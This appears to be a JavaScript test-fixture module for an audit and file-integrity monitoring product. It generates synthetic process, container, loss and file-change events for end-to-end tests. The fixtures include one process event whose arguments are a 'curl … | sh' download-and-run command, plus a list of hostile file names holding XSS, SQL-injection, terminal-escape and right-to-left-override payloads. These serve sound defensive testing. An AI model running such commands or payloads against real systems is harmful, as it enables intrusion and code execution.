// Events with processes, containers and losses, for what a test machine may not have: sent through the door for shippers,
// as an agent would send them. Each call makes names of its own, so that a test can run again on the same store.

/** Sends documents; `dataset` is audit, health or the like. */
export async function send({ context, server }, dataset, documents) {
  const me = await (await context.request.get(`${server.origin}/api/me`)).json();
  const headers = { Origin: server.origin, 'X-Auditng-Csrf': me.csrf };
  const made = await context.request.post(`${server.origin}/api/tokens`, { headers, data: { name: `e2e-${Date.now()}`, role: 'ingest' } });
  if (!made.ok()) throw new Error(`no token: ${made.status()} ${await made.text()}`);
  const { id, secret } = await made.json();
  const body = documents.map((document) => `{"create":{}}\n${JSON.stringify({ ...document, event: { dataset: `auditng.${dataset}`, kind: 'event', ...document.event } })}\n`).join('');
  const answer = await context.request.post(`${server.origin}/logs-auditng.${dataset}-default/_bulk`, { headers: { Authorization: `Bearer ${secret}`, 'Content-Type': 'application/x-ndjson' }, data: body });
  const text = await answer.text();
  if (!answer.ok() || text.includes('"errors":true')) throw new Error(`bulk: ${answer.status()} ${text.slice(0, 400)}`);
  await context.request.delete(`${server.origin}/api/tokens/${id}`, { headers });
}

/**
 * init, sshd, a login shell and what came of it: a build, programs that could not be run, a daemon that was handed over, a
 * container with a web server, and 120 short children.
 */
export function family() {
  const run = Date.now().toString(36);
  const id = (name) => `${run}/${name}+`;
  const host = `build-${run}`;
  const begin = Date.now() - 120_000;
  const documents = [];
  let pid = 4000;
  const pids = new Map([['init', 1]]);
  const tell = (name, parent, more = {}) => {
    if (!pids.has(name)) pids.set(name, (pid += 3));
    const at = begin + documents.length * 250;
    const { event, process, ...rest } = more;
    documents.push({
      '@timestamp': new Date(at).toISOString(),
      host: { name: host },
      user: { id: '1000', name: 'ada' },
      auditd: { user: { audit: { name: 'ada' } } },
      event: { action: ['exec', 'executed'], category: ['process'], type: ['start'], outcome: 'success', ...event },
      process: {
        entity_id: id(name), pid: pids.get(name), name: name.replace(/-\d+$/, ''), executable: `/usr/bin/${name}`, args: [name], start: new Date(at - 2).toISOString(),
        parent: { entity_id: id(parent), pid: pids.get(parent) ?? 1, name: parent, executable: `/usr/bin/${parent}` }, ...process,
      },
      auditng: { container: { scope: 'host' } },
      ...rest,
    });
  };
  const ended = (name, parent, exit_code) => tell(name, parent, { event: { action: ['end'], type: ['end'] }, process: { end: new Date(begin + documents.length * 250).toISOString(), exit_code } });
  const ancestry = [{ pid: 1, name: 'init', entity_id: id('init') }];
  const inside = { container: { id: `${run.padStart(64, '0')}`, name: `web-${run}`, runtime: 'docker', image: { name: 'docker.io/library/nginx', tag: ['1.27'] } }, auditng: { container: { scope: 'container' } }, user: { id: '0', name: 'root' } };
  tell('sshd', 'init', { auditng: { container: { scope: 'host' }, process: { ancestry } }, user: { id: '0', name: 'root' }, process: { args: ['/usr/sbin/sshd', '-D'] } });
  tell('bash', 'sshd', { process: { args: ['-bash'] } });
  tell('make', 'bash', { process: { args: ['make', '-j4', 'all', 'CFLAGS=-O2 -g'] } });
  tell('cc', 'make', { process: { args: ['cc', '-O2', '-c', 'reader.c', '-o', 'reader.o'] } });
  ended('cc', 'make', 0);
  tell('ld', 'make', { process: { args: ['ld', '-o', 'reader', 'reader.o'] } });
  ended('ld', 'make', 1);
  ended('make', 'bash', 2);
  tell('nc', 'bash', { event: { outcome: 'failure' }, auditng: { container: { scope: 'host' }, errno: 'ENOENT' }, process: { name: 'bash' } });
  tell('nc', 'bash', { event: { outcome: 'failure' }, auditng: { container: { scope: 'host' }, errno: 'EACCES' }, process: { name: 'bash' } });
  tell('sudo', 'bash', { user: { id: '1000', name: 'ada', effective: { id: '0', name: 'root' } }, process: { args: ['sudo', 'docker', 'run', '--rm', 'nginx:1.27'] } });
  tell('docker', 'sudo', { user: { id: '0', name: 'root' }, process: { args: ['docker', 'run', '--rm', 'nginx:1.27'] } });
  tell('nginx', 'docker', { ...inside, process: { args: ['nginx', '-g', 'daemon off;'] } });
  tell('nginx-1', 'nginx', { ...inside, event: { action: ['opened-file'], category: ['file'], type: ['info'] }, process: { args: ['nginx: worker process'] } });
  tell('sh', 'nginx', { ...inside, process: { args: ['sh', '-c', 'curl -s http://198.51.100.7/x | sh'] } });
  tell('daemon', 'bash', {});
  tell('daemon', 'init', { event: { action: ['opened-file'], category: ['file'], type: ['info'] }, auditng: { container: { scope: 'host' }, process: { creator: { entity_id: id('bash'), pid: pids.get('bash') } } } });
  for (let n = 0; n < 120; n++) tell(`true-${n}`, 'bash', { process: { args: ['true', String(n)] } });
  return { run, host, id, documents, container: inside.container, bash: id('bash') };
}

/** Containers of a small shop; one was named only after its first events. */
export function shop() {
  const run = `s${Date.now().toString(36)}`;
  const begin = Date.now() - 100_000;
  const documents = [];
  const tell = (container, pod, n, more = {}) => {
    const at = begin + (documents.length * 97) % 99_000;
    const { event, ...rest } = more;
    documents.push({
      '@timestamp': new Date(at).toISOString(), host: { name: `node-${1 + (n % 3)}` },
      event: { action: ['exec', 'executed'], category: ['process'], type: ['start'], outcome: n % 11 === 3 ? 'failure' : 'success', ...event },
      process: { name: 'worker', pid: 9000 + n, args: ['worker', String(n)] }, container, auditng: { container: { scope: 'container' } },
      ...(pod && { orchestrator: { type: 'kubernetes', namespace: 'shop', resource: { type: 'pod', name: pod } } }), ...rest,
    });
  };
  const id = (n) => `${run}${n}`.padEnd(64, '0');
  const images = [['registry.example/shop/front', '4.2.1'], ['registry.example/shop/cart', '4.2.0'], ['docker.io/library/redis', '7.4'], ['docker.io/library/postgres', '17']];
  images.forEach(([image, tag], i) => {
    for (let n = 0; n < 40 / (i + 1); n++) tell({ id: id(i), name: `${image.split('/').pop()}-${run}`, runtime: 'containerd', image: { name: image, tag: [tag] } }, `${image.split('/').pop()}-5d9f-${i}`, n + i);
  });
  const late = { id: id('late'), runtime: 'containerd' };
  for (let n = 0; n < 6; n++) tell(late, '', n, { auditng: { container: { scope: 'container', metadata: 'pending' } } });
  tell({ ...late, name: `late-${run}`, image: { name: 'docker.io/library/alpine', tag: ['3.22'] }, labels: { team: 'blue' } }, '', 0, { event: { kind: 'state', action: ['container-observed'], category: [], type: [], outcome: 'unknown' }, process: {} });
  for (let n = 0; n < 5; n++) tell(undefined, '', n, { auditng: { container: { scope: 'unknown', reason: 'pid-gone' } } });
  return { run, documents, late: late.id, lateName: `late-${run}` };
}

/** Losses of three kinds in the last minutes. */
export function losses() {
  const host = `lossy-${Date.now().toString(36)}`;
  const made = (stage, reason, count, unit, ago, long) => {
    const end = Date.now() - ago;
    return {
      '@timestamp': new Date(end + 800).toISOString(), host: { name: host }, agent: { name: host },
      event: { action: ['source-loss'], outcome: 'failure' },
      auditng: { loss: { stage, reason, unit, ...(count !== null && { count }), window_start: new Date(end - long).toISOString(), window_end: new Date(end).toISOString() } },
    };
  };
  return {
    host,
    documents: [
      made('kernel', 'kernel-lost', 1204, 'records', 60_000, 2_000), made('kernel', 'serial-gap', 31, 'events', 59_000, 2_500), made('netlink', 'enobufs', null, 'reports', 58_500, 900),
      made('kernel', 'kernel-lost', 12, 'records', 240_000, 1_000),
    ],
  };
}

/** Names that want to be more than names. */
const HOSTILE = [
  '/etc/two\nlines.conf', '/etc/\u001b[31mred', '/etc/<img src=x onerror="globalThis.pwned=1">', '/etc/<script>globalThis.pwned=1</script>',
  '/etc/gpj.\u202eexe', '/etc/"quotes" AND *:* OR \\', "/etc/'; DROP TABLE baselines; --", '/etc/\\xff\\xfe', `/etc/${'n'.repeat(250)}`,
];

/**
 * 1,200 changes on three hosts in the last hours: edits with a difference, a package's files, changes in containers; a file
 * that was created while nobody watched; and what the hosts tell of their baselines, scans and coverage.
 */
export function changes() {
  const run = Date.now().toString(36);
  const host = `files-${run}`;
  const begin = Date.now() - 6 * 3_600_000;
  const random = ((seed) => () => ((seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648) / 2_147_483_648))(7);
  const policies = [['etc', 'medium', 47, '/etc'], ['identity', 'critical', 99, '/etc/pam.d'], ['system-binaries', 'high', 73, '/usr/bin'], ['web', 'low', 21, '/srv/www']];
  const agent = (n) => `fe00${run.slice(-6).replaceAll(/[^0-9a-f]/g, '0').padStart(6, '0')}0${n}`;
  const list = [];
  const tell = (n, at, action, path, [policy, word, number], more = {}) => {
    const { fim, ...rest } = more;
    list.push({
      '@timestamp': new Date(at).toISOString(), host: { name: `${host}-${n}` }, agent: { id: agent(n) },
      event: { action: [action], category: ['file'], type: [action === 'created' ? 'creation' : action === 'deleted' ? 'deletion' : 'change'], outcome: 'success', severity: number },
      file: { path, name: path.split('/').pop() }, tags: ['pci-dss-4.0:11.5.2'],
      user: { id: '1000', name: 'ada' }, process: { executable: '/usr/bin/vim', name: 'vim', pid: 4000 + (list.length % 900), entity_id: `${run}/vim${list.length % 900}` },
      auditng: { fim: { policy: [policy], severity: word, source: 'fanotify', cause: 'event', verified: true, count: 1, who: { confidence: 'certain', source: 'pidfd' }, ...fim } },
      ...rest,
    });
  };
  const ssh = ['ssh', 'high', 73];
  tell(0, begin, 'created', '/etc/ssh/sshd_config', ssh, {
    user: undefined, process: undefined,
    fim: { cause: 'while-down', source: 'scan', window_start: new Date(begin - 7_200_000).toISOString(), window_end: new Date(begin).toISOString(), who: { confidence: 'unknown', source: 'none', reason: 'found_by_scan' } },
  });
  let critical = 0;
  let packaged = 0;
  for (let n = 0; n < 1190; n++) {
    const policy = policies[Math.floor(random() * 4)];
    const action = ['updated', 'replaced', 'created', 'deleted', 'attributes_modified'][Math.floor(random() * 5)];
    const fromPackage = action === 'replaced' && random() < 0.6;
    const inside = !fromPackage && random() < 0.25;
    const word = fromPackage ? ['informational', 0] : [policy[1], policy[2]];
    if (word[0] === 'critical') critical += 1;
    if (fromPackage) packaged += 1;
    const image = `registry.example/shop-${n % 3}`;
    tell(n % 3, begin + n * 17_000, action, `${policy[3]}/file-${Math.floor(random() * random() * 200)}.conf`, [policy[0], ...word], {
      fim: {
        changed: action === 'attributes_modified' ? ['mode'] : ['sha256', 'size'],
        before: action === 'attributes_modified' ? { mode: '0644' } : { sha256: 'a'.repeat(64), size: '120' }, after: action === 'attributes_modified' ? { mode: '0666' } : { sha256: 'b'.repeat(64), size: '144' },
        ...(fromPackage && { provenance: { by: 'dpkg', packages: [`package-${n % 7}`], versions: ['1.2-3'] } }),
        ...(action === 'replaced' && { diff_reason: 'binary' }),
      },
      ...(inside && { container: { id: `${run}${n % 5}`.padEnd(64, '0'), name: `shop-${n % 5}-${run}`, runtime: 'containerd', image: { name: image, tag: ['4.2'] } } }),
    });
  }
  tell(0, begin + 5.9 * 3_600_000, 'updated', '/etc/ssh/sshd_config', ssh, {
    fim: {
      changed: ['sha256', 'size', 'mode'], before: { sha256: 'c'.repeat(64), size: '3204', mode: '0600' }, after: { sha256: 'd'.repeat(64), size: '3231', mode: '0644' },
      diff: '--- /etc/ssh/sshd_config\n+++ /etc/ssh/sshd_config\n@@ -31,5 +31,6 @@\n # Authentication\n LoginGraceTime 2m\n-PermitRootLogin no\n+PermitRootLogin yes\n+AuthToken <redacted 1>\n Subsystem sftp internal-sftp\n',
    },
  });
  for (const path of HOSTILE) tell('hostile', Date.now() - 60_000, 'created', path, ['etc', 'medium', 47]);
  const notice = (n, ago, action, fim, more = {}) => ({
    '@timestamp': new Date(Date.now() - ago).toISOString(), host: { name: `${host}-${n}` }, agent: { id: agent(n) }, event: { action: [action], kind: 'state', outcome: 'success' }, auditng: { fim }, ...more,
  });
  const root = (letter) => letter.repeat(64);
  const generation = (n, ago, number, at, before) => notice(n, ago, 'fim-baseline', { generation: number, baseline: { root: root(at), ...(before && { previous: root(before) }), key: root('e'), signature: 'f'.repeat(128), policies: root('9') }, reason: number === 1 ? 'first baseline' : 'deploy 4.2 approved by ada' });
  const scanned = (n, ago, kind) => notice(n, ago, 'fim-scan', { generation: 1, baseline: { root: root('a') }, scan: { kind, entries: 137_702, bytes: 6_880_000_000, differences: 3, skipped: 12, unreadable: 0 } });
  return {
    run, host, changes: list, critical, packaged, hostile: HOSTILE,
    notices: [
      generation(0, 3_000_000, 1, 'a'), generation(0, 2_000_000, 2, 'b', 'a'), generation(0, 1_000_000, 3, 'c', 'b'), generation(0, 500_000, 2, 'b', 'a'), generation(1, 900_000_000, 1, 'a'), generation(2, 3_000_000, 1, 'a'),
      scanned(0, 600_000, 'meta'), scanned(0, 7_200_000, 'full'), scanned(1, 9 * 86_400_000, 'meta'), scanned(2, 60_000, 'meta'),
      notice(2, 50_000, 'fim-coverage', { root: '/mnt/archive', source: 'scan-only', reason: 'FUSE raises no events for other hosts’ writes' }),
    ],
  };
}
